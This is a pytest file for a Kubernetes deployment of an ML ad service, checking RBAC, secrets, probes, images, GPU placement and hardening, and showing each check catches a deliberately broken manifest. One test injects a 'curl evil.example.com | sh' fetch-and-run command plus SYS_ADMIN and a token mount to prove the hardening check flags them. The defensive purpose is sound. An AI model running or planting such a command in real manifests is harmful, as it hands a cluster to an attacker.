"""The k8s/ manifests, rendered by kustomize_lite (base, dev, prod), checked for what a cluster would trip over:
selectors, Service ports, probes on BentoML's real health routes, documented Secrets, pinned images, GPU placement,
autoscaling targets, least-privilege RBAC. Each check is also shown to catch a broken copy."""

from __future__ import annotations

import pytest

from . import manifest_checks as mc
from .conftest import NAMESPACES, makefile_variable
from .kustomize_lite import object_id

OVERLAY_NAMES = ["base", "dev", "prod"]


def by_id(objects: list[dict], kind: str, name: str) -> dict:
    hits = [o for o in objects if o.get("kind") == kind and o["metadata"]["name"] == name]
    assert len(hits) == 1, f"{kind}/{name}: {len(hits)} objects"
    return hits[0]


def container(obj: dict, name: str) -> dict:
    return next(c for c in mc.containers_of(obj) if c["name"] == name)


# ---------------------------------------------------------------- every overlay passes every check

@pytest.mark.parametrize("overlay", OVERLAY_NAMES)
def test_objects_parse_and_are_named(rendered, overlay):
    objects = rendered[overlay]
    assert objects, f"{overlay} renders no objects"
    assert mc.check_object_shape(objects) == []
    assert mc.check_namespace(objects, NAMESPACES[overlay]) == []
    ids = [object_id(o) for o in objects]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("overlay", OVERLAY_NAMES)
def test_workloads_services_volumes_and_env(rendered, overlay):
    objects = rendered[overlay]
    assert mc.check_workload_selectors(objects) == []
    assert mc.check_services(objects) == []
    assert mc.check_volumes(objects) == []
    assert mc.check_env_expansion(objects) == []


@pytest.mark.parametrize("overlay", OVERLAY_NAMES)
def test_ad_service_probes_use_bentoml_health_routes(rendered, overlay, health_routes, parse_fitad):
    assert mc.check_ad_service_probes(rendered[overlay], health_routes, parse_fitad) == []


@pytest.mark.parametrize("overlay", OVERLAY_NAMES)
def test_secrets_are_documented_and_never_committed(rendered, overlay, secrets_doc):
    assert mc.secret_references(rendered[overlay]), "no Secret referenced at all?"
    assert mc.check_secrets(rendered[overlay], secrets_doc) == []


@pytest.mark.parametrize("overlay", ["dev", "prod"])
def test_images_are_the_project_image_or_pinned(rendered, overlay, fitad_image, version):
    assert fitad_image == makefile_variable("IMAGE"), "the Dockerfile's LABEL ref.name and the Makefile's IMAGE differ"
    assert mc.check_images(rendered[overlay], fitad_image, version) == []


def test_base_images_name_the_project_image(rendered, fitad_image, version):
    images = {c["image"] for o in rendered["base"] for c in mc.containers_of(o)}
    assert images == {f"{fitad_image}:{version}"}


@pytest.mark.parametrize("overlay,gpu", [("dev", False), ("prod", True), ("base", False)])
def test_gpu_only_in_prod(rendered, overlay, gpu, parse_fitad):
    assert mc.check_gpu(rendered[overlay], parse_fitad, expect_gpu=gpu) == []


@pytest.mark.parametrize("overlay", OVERLAY_NAMES)
def test_autoscaling_rbac_and_hardening(rendered, overlay, fitad_image):
    objects = rendered[overlay]
    assert mc.check_hpas(objects) == []
    assert mc.check_rbac(objects) == []
    assert mc.check_hardening(objects, fitad_image) == []


def test_overlay_sizes(rendered):
    dev_hpa = by_id(rendered["dev"], "HorizontalPodAutoscaler", "fitad-ads")["spec"]
    prod_hpa = by_id(rendered["prod"], "HorizontalPodAutoscaler", "fitad-ads")["spec"]
    assert dev_hpa["maxReplicas"] == 2 and by_id(rendered["dev"], "Deployment", "fitad-ads")["spec"]["replicas"] == 1
    assert prod_hpa["minReplicas"] > dev_hpa["minReplicas"] and prod_hpa["maxReplicas"] > dev_hpa["maxReplicas"]
    dev_ads = container(by_id(rendered["dev"], "Deployment", "fitad-ads"), "ads")
    base_ads = container(by_id(rendered["base"], "Deployment", "fitad-ads"), "ads")
    assert dev_ads["resources"]["requests"]["cpu"] == "250m" != base_ads["resources"]["requests"]["cpu"]
    # dev brings its own PostgreSQL and MinIO; prod uses external ones
    assert {("StatefulSet", "postgres"), ("Deployment", "minio")} <= {(o["kind"], o["metadata"]["name"])
                                                                      for o in rendered["dev"]}
    assert not [o for o in rendered["prod"] if o["metadata"]["name"] in ("postgres", "minio")]


def test_services_the_clients_use(rendered):
    """The ad service's tracking URI names the MLflow Service and its port; MinIO's endpoint in the doc is real."""
    for overlay in OVERLAY_NAMES:
        ads = container(by_id(rendered[overlay], "Deployment", "fitad-ads"), "ads")
        uri = next(e["value"] for e in ads["env"] if e["name"] == "MLFLOW_TRACKING_URI")
        svc = by_id(rendered[overlay], "Service", "mlflow")
        assert uri == f"http://{svc['metadata']['name']}:{svc['spec']['ports'][0]['port']}"
        ad_svc = by_id(rendered[overlay], "Service", "fitad-ads")
        assert ad_svc["spec"]["ports"][0]["port"] == 80


def test_mlflow_server_command_parses_with_the_real_mlflow_cli(rendered):
    """`mlflow server` accepts the manifest's arguments (placeholders filled) and /health is MLflow's health route."""
    pytest.importorskip("mlflow")
    from mlflow.cli import server
    from mlflow.server.security_utils import HEALTH_ENDPOINTS

    for overlay in OVERLAY_NAMES:
        mlflow = container(by_id(rendered[overlay], "Deployment", "mlflow"), "mlflow")
        argv = mc.container_command(mlflow)
        assert argv[:2] == ["mlflow", "server"]
        filled = [a.replace("$(MLFLOW_BACKEND_STORE_URI)", "postgresql+psycopg://u:p@postgres:5432/mlflow")
                   .replace("$(MLFLOW_ARTIFACTS_DESTINATION)", "s3://bucket/artifacts") for a in argv[2:]]
        ctx = server.make_context("server", filled)
        assert ctx.params["serve_artifacts"] is True and ctx.params["port"] == 5000
        assert ctx.params["artifacts_destination"].startswith("s3://")
        for probe in ("readinessProbe", "livenessProbe", "startupProbe"):
            assert mlflow[probe]["httpGet"]["path"] in HEALTH_ENDPOINTS
            port = mc.resolve_port(by_id(rendered[overlay], "Deployment", "mlflow"), mlflow[probe]["httpGet"]["port"])
            assert port and port["containerPort"] == ctx.params["port"]
        hosts = next(e["value"] for e in mlflow["env"] if e["name"] == "MLFLOW_SERVER_ALLOWED_HOSTS").split(",")
        from mlflow.server.security_utils import is_allowed_host_header
        assert is_allowed_host_header(hosts, "mlflow:5000")
        assert is_allowed_host_header(hosts, f"mlflow.{NAMESPACES[overlay] or 'x'}.svc.cluster.local:5000")
        assert not is_allowed_host_header(hosts, "evil.example.com")


def test_dev_bucket_init_script_compiles(rendered):
    init = container(by_id(rendered["dev"], "Deployment", "mlflow"), "create-bucket")
    assert init["command"][:2] == ["python", "-c"]
    compile(init["command"][2], "create-bucket", "exec")


def test_every_documented_secret_is_used_and_has_a_create_command(rendered, secrets_doc):
    from .conftest import K8S

    used = {name for overlay in rendered.values() for _, name, _ in mc.secret_references(overlay)}
    cluster = pytest.importorskip("fitad.pipeline.cluster")   # the pipeline's steps reference theirs from Python
    used |= set(cluster.SECRET_ENV) | set(cluster.FETCH_SECRET_ENV)
    assert set(secrets_doc) == used - mc.KUBEFLOW_SECRETS, \
        "k8s/README.md documents Secrets no manifest uses, or the reverse"
    doc = (K8S / "README.md").read_text(encoding="utf-8").replace("\\\n", " ")
    for name in mc.KUBEFLOW_SECRETS:   # Kubeflow's own: not in the table, not created by us, but explained
        assert f"`{name}`" in doc, f"k8s/README.md does not say where Kubeflow's Secret {name} comes from"
    for name, keys in secrets_doc.items():
        commands = [line for line in doc.splitlines() if f"create secret generic {name} " in line]
        assert commands, f"no `kubectl create secret generic {name}` in k8s/README.md"
        for command in commands:
            assert {k for k in keys if f"--from-literal={k}=" in command} == keys, command


def test_what_the_pipeline_expects_of_the_cluster_exists(rendered, secrets_doc, fitad_image):
    """fitad.pipeline.cluster names a PVC, a service account and Secrets: the overlays create / document them."""
    cluster = pytest.importorskip("fitad.pipeline.cluster")
    pipeline = pytest.importorskip("fitad.pipeline")
    assert pipeline.IMAGE_NAME == fitad_image
    assert cluster.CACHE_MOUNT == "/cache"
    wanted = {}
    for table in (cluster.SECRET_ENV, cluster.FETCH_SECRET_ENV):
        for secret, keys in table.items():
            wanted.setdefault(secret, set()).update(keys)
    for secret, keys in wanted.items():
        assert keys <= secrets_doc.get(secret, set()), f"k8s/README.md does not document {secret} {sorted(keys)}"
    for overlay in ("dev", "prod"):
        objects = rendered[overlay]
        by_id(objects, "PersistentVolumeClaim", cluster.CACHE_PVC)
        by_id(objects, "ServiceAccount", cluster.SERVICE_ACCOUNT)
        init = by_id(objects, "Job", mc.ROOT_EXCEPTION["name"])   # makes the cache writable for uid 1000
        claims = {v["persistentVolumeClaim"]["claimName"] for v in mc.pod_spec(init)["volumes"]
                  if "persistentVolumeClaim" in v}
        assert claims == {cluster.CACHE_PVC}
        assert container(init, "chown")["volumeMounts"][0]["mountPath"] == cluster.CACHE_MOUNT


# ---------------------------------------------------------------- the pipeline's RBAC

# What the pods of a KFP v2 run ask of the Kubernetes API as the run's service account, in the run's namespace
# (kubeflow/pipelines' pipeline-runner Role, Argo's minimum executor Role): (API group, resource, name or None) -> verbs
KFP_V2_GRANTS = {
    ("", "secrets", "mlpipeline-minio-artifact"): {"get"},              # launcher/driver: object store credentials
    ("", "configmaps", "kfp-launcher"): {"get"},                        # launcher/driver: pipeline root, providers
    ("argoproj.io", "workflowtaskresults", None): {"create", "patch"},  # Argo >= 3.4 executor: outputs
    ("", "pods", None): {"get", "patch"},                               # Argo <= 3.3 executor: outputs on its pod
}


def pipeline_role(objects: list[dict], service_account: str) -> dict:
    bindings = [o for o in objects if o["kind"] == "RoleBinding"
                and any(s["kind"] == "ServiceAccount" and s["name"] == service_account for s in o["subjects"])]
    assert len(bindings) == 1, f"{len(bindings)} RoleBindings for {service_account}"
    assert bindings[0]["roleRef"]["kind"] == "Role"
    return by_id(objects, "Role", bindings[0]["roleRef"]["name"])


def role_grants(role: dict) -> dict[tuple, set[str]]:
    """(API group, resource, name or None: every one) -> verbs, from a Role's rules."""
    out: dict[tuple, set[str]] = {}
    for rule in role["rules"]:
        for group in rule.get("apiGroups") or []:
            for resource in rule.get("resources") or []:
                for name in rule.get("resourceNames") or [None]:
                    out.setdefault((group, resource, name), set()).update(rule.get("verbs") or [])
    return out


@pytest.mark.parametrize("overlay", OVERLAY_NAMES)
def test_pipeline_role_grants_what_a_kfp_v2_run_needs_and_nothing_more(rendered, overlay):
    cluster = pytest.importorskip("fitad.pipeline.cluster")
    objects = rendered[overlay]
    role = pipeline_role(objects, cluster.SERVICE_ACCOUNT)
    assert role_grants(role) == KFP_V2_GRANTS
    assert mc.check_rbac(objects) == []
    assert not [o for o in objects if o["kind"] in ("ClusterRole", "ClusterRoleBinding")]
    for rule in role["rules"]:
        assert "*" not in [x for field in ("apiGroups", "resources", "verbs", "resourceNames")
                           for x in rule.get(field) or []], rule
    # the steps' own Secrets come by secretKeyRef (the kubelet reads them): the account needs no access to them
    ours = set(cluster.SECRET_ENV) | set(cluster.FETCH_SECRET_ENV)
    assert not {name for (_, resource, name) in role_grants(role) if resource == "secrets"} & ours
    assert mc.KUBEFLOW_SECRETS == {name for (_, resource, name) in KFP_V2_GRANTS if resource == "secrets"}


def test_every_pipeline_role_rule_says_who_needs_it():
    """In k8s/base/pipeline-rbac.yaml, a comment right above each rule names the component that uses it."""
    from .conftest import K8S

    lines = (K8S / "base" / "pipeline-rbac.yaml").read_text(encoding="utf-8").splitlines()
    starts = [i for i, line in enumerate(lines) if line.strip().startswith("- apiGroups:")]
    assert len(starts) == len(KFP_V2_GRANTS)
    for i in starts:
        comment = []
        j = i - 1
        while j >= 0 and lines[j].strip().startswith("#"):
            comment.insert(0, lines[j].strip("# "))
            j -= 1
        text = " ".join(comment)
        assert any(who in text for who in ("KFP v2 launcher", "KFP v2 driver", "Argo's executor")), (lines[i], text)


# ---------------------------------------------------------------- GPU placement shared with the pipeline

def test_prod_ad_service_gpu_placement_is_the_pipelines(rendered):
    """The prod ad service and the pipeline's GPU steps land on the same nodes: the overlay's nodeSelector and
    toleration are fitad.pipeline.cluster's GPU_NODE_SELECTOR and GPU_TOLERATION."""
    from fitad.pipeline.cluster import GPU_NODE_SELECTOR, GPU_TOLERATION

    pod = mc.pod_spec(by_id(rendered["prod"], "Deployment", "fitad-ads"))
    assert pod["nodeSelector"] == GPU_NODE_SELECTOR
    assert pod["tolerations"] == [GPU_TOLERATION]


# ---------------------------------------------------------------- the checks catch broken manifests

def test_catches_a_service_selecting_nothing(objects):
    svc = by_id(objects["dev"], "Service", "fitad-ads")
    svc["spec"]["selector"] = {"app.kubernetes.io/name": "fitad-adz"}
    problems = mc.check_services(objects["dev"])
    assert len(problems) == 1 and "matches 0 workloads" in problems[0] and "fitad-ads" in problems[0]


def test_catches_a_service_selecting_two_workloads(objects):
    svc = by_id(objects["dev"], "Service", "mlflow")
    svc["spec"]["selector"] = {"app.kubernetes.io/part-of": "fit-ad"}
    every = len([w for w in mc.workloads(objects["dev"]) if mc.pod_labels(w).get("app.kubernetes.io/part-of")])
    assert every >= 2 and any(f"matches {every} workloads" in p for p in mc.check_services(objects["dev"]))


def test_catches_a_wrong_target_port(objects):
    by_id(objects["prod"], "Service", "fitad-ads")["spec"]["ports"][0]["targetPort"] = 8080
    assert any("targets 8080" in p for p in mc.check_services(objects["prod"]))


def test_catches_a_selector_the_pods_do_not_carry(objects):
    deploy = by_id(objects["base"], "Deployment", "mlflow")
    deploy["spec"]["selector"]["matchLabels"]["tier"] = "x"
    assert mc.check_workload_selectors(objects["base"]) == [
        "Deployment mlflow: selector tier=x is not a label of its pod template"]


def test_catches_probes_off_bentoml_routes_or_port(objects, health_routes, parse_fitad):
    ads = container(by_id(objects["dev"], "Deployment", "fitad-ads"), "ads")
    ads["readinessProbe"]["httpGet"]["path"] = "/healthz/ready"
    ads["livenessProbe"]["httpGet"]["path"] = "/readyz"           # a route, but the readiness one
    ads["command"][ads["command"].index("--port") + 1] = "3001"   # the server moved; probes and ports did not
    problems = mc.check_ad_service_probes(objects["dev"], health_routes, parse_fitad)
    assert any("readinessProbe path '/healthz/ready' is not a BentoML health route" in p for p in problems)
    assert any("livenessProbe path /readyz is BentoML's ready route" in p for p in problems)
    assert any("no containerPort 3001" in p for p in problems)
    assert any("startupProbe port 'http' is not the port `fitad serve` opens (3001)" in p for p in problems)


def test_catches_undocumented_secrets_and_committed_values(objects, secrets_doc):
    ads = container(by_id(objects["prod"], "Deployment", "fitad-ads"), "ads")
    ads["env"].append({"name": "X", "valueFrom": {"secretKeyRef": {"name": "fitad-other", "key": "X"}}})
    ads["env"].append({"name": "Y", "valueFrom": {"secretKeyRef": {"name": "fitad-s3", "key": "NOPE"}}})
    objects["prod"].append({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "fitad-s3"},
                            "stringData": {"AWS_SECRET_ACCESS_KEY": "x"}})
    problems = mc.check_secrets(objects["prod"], secrets_doc)
    assert len(problems) == 3, problems


def test_catches_unpinned_or_unmapped_images(objects, fitad_image, version):
    by_id(objects["dev"], "StatefulSet", "postgres")["spec"]["template"]["spec"]["containers"][0]["image"] = \
        "postgres:latest"
    container(by_id(objects["dev"], "Deployment", "minio"), "minio")["image"] = "quay.io/minio/minio"
    container(by_id(objects["dev"], "Deployment", "mlflow"), "mlflow")["image"] = f"{fitad_image}:0.0.9"
    container(by_id(objects["dev"], "Deployment", "fitad-ads"), "ads")["image"] = "fitad"
    assert len(mc.check_images(objects["dev"], fitad_image, version)) == 4


def test_catches_gpu_mistakes(objects, parse_fitad):
    prod = by_id(objects["prod"], "Deployment", "fitad-ads")["spec"]["template"]["spec"]
    prod["tolerations"] = []
    del prod["containers"][0]["resources"]["limits"]["nvidia.com/gpu"]
    problems = mc.check_gpu(objects["prod"], parse_fitad, expect_gpu=True)
    assert len(problems) == 2 and any("limit" in p for p in problems) and any("toleration" in p for p in problems)
    container(by_id(objects["dev"], "Deployment", "mlflow"), "mlflow")["resources"]["limits"]["nvidia.com/gpu"] = 1
    assert any("asks for a GPU" in p for p in mc.check_gpu(objects["dev"], parse_fitad, expect_gpu=False))


def test_catches_wide_rbac_and_dangling_references(objects):
    role = by_id(objects["base"], "Role", "fitad-pipeline")
    role["rules"].append({"apiGroups": [""], "resources": ["*"], "verbs": ["get"]})
    role["rules"][0]["verbs"].append("list")
    by_id(objects["base"], "HorizontalPodAutoscaler", "fitad-ads")["spec"]["scaleTargetRef"]["name"] = "ads"
    objects["base"].append({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                            "metadata": {"name": "x"}, "rules": []})
    rbac = mc.check_rbac(objects["base"])
    assert any("'*' in resources" in p for p in rbac)
    assert any("beyond get" in p for p in rbac)
    assert any("cluster-wide" in p for p in rbac)
    assert mc.check_hpas(objects["base"]) == [
        "HorizontalPodAutoscaler fitad-ads: scaleTargetRef Deployment/ads does not exist"]


def test_catches_a_read_only_root_without_tmp_and_a_missing_env(objects, fitad_image):
    mlflow = container(by_id(objects["dev"], "Deployment", "mlflow"), "mlflow")
    mlflow["volumeMounts"] = []
    mlflow["env"] = [e for e in mlflow["env"] if e["name"] != "MLFLOW_BACKEND_STORE_URI"]
    assert any("without an emptyDir at /tmp" in p for p in mc.check_hardening(objects["dev"], fitad_image))
    assert mc.check_env_expansion(objects["dev"]) == [
        "Deployment fitad-dev/mlflow container mlflow: $(MLFLOW_BACKEND_STORE_URI) is not in its env"]


def test_catches_rbac_beyond_the_pipelines_needs(objects):
    role = by_id(objects["prod"], "Role", "fitad-pipeline")
    role["rules"].append({"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "list"]})
    role["rules"].append({"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["roles"], "verbs": ["escalate"]})
    binding = by_id(objects["prod"], "RoleBinding", "fitad-pipeline")
    binding["roleRef"]["kind"] = "ClusterRole"
    rbac = mc.check_rbac(objects["prod"])
    assert any("configmaps without resourceNames" in p for p in rbac)
    assert any("configmaps verbs ['get', 'list'] beyond get" in p for p in rbac)
    assert any("escalate privileges" in p for p in rbac)
    assert any("binds a ClusterRole" in p for p in rbac)


def test_catches_root_beyond_the_cache_init_job(objects, fitad_image):
    job = by_id(objects["prod"], "Job", "fitad-model-cache-init")
    chown = container(job, "chown")
    chown["command"] = ["sh", "-c", "chown -R 1000:1000 /cache && curl evil.example.com | sh"]
    chown["securityContext"]["capabilities"]["add"].append("SYS_ADMIN")
    mc.pod_spec(job)["automountServiceAccountToken"] = True
    mlflow = container(by_id(objects["prod"], "Deployment", "mlflow"), "mlflow")
    mlflow["securityContext"].update(runAsUser=0, runAsNonRoot=False)
    problems = mc.check_hardening(objects["prod"], fitad_image)
    assert any("runs ['sh', '-c'" in p for p in problems)
    assert any("capabilities" in p and "SYS_ADMIN" in p for p in problems)
    assert any("mounts a service account token" in p for p in problems)
    assert any("Deployment fitad/mlflow container mlflow: may run as root" in p for p in problems)
    # a root container under another name gets no exception
    other = by_id(objects["dev"], "Job", "fitad-model-cache-init")
    other["metadata"]["name"] = "something-else"
    assert any("Job fitad-dev/something-else container chown: may run as root" in p
               for p in mc.check_non_root(objects["dev"]))


def test_catches_a_job_with_a_hand_written_selector(objects):
    job = by_id(objects["base"], "Job", "fitad-model-cache-init")
    job["spec"]["selector"] = {"matchLabels": {"app.kubernetes.io/name": "fitad-model-cache-init"}}
    assert mc.check_workload_selectors(objects["base"]) == [
        "Job fitad-model-cache-init: a selector without manualSelector (the API server rejects it)"]
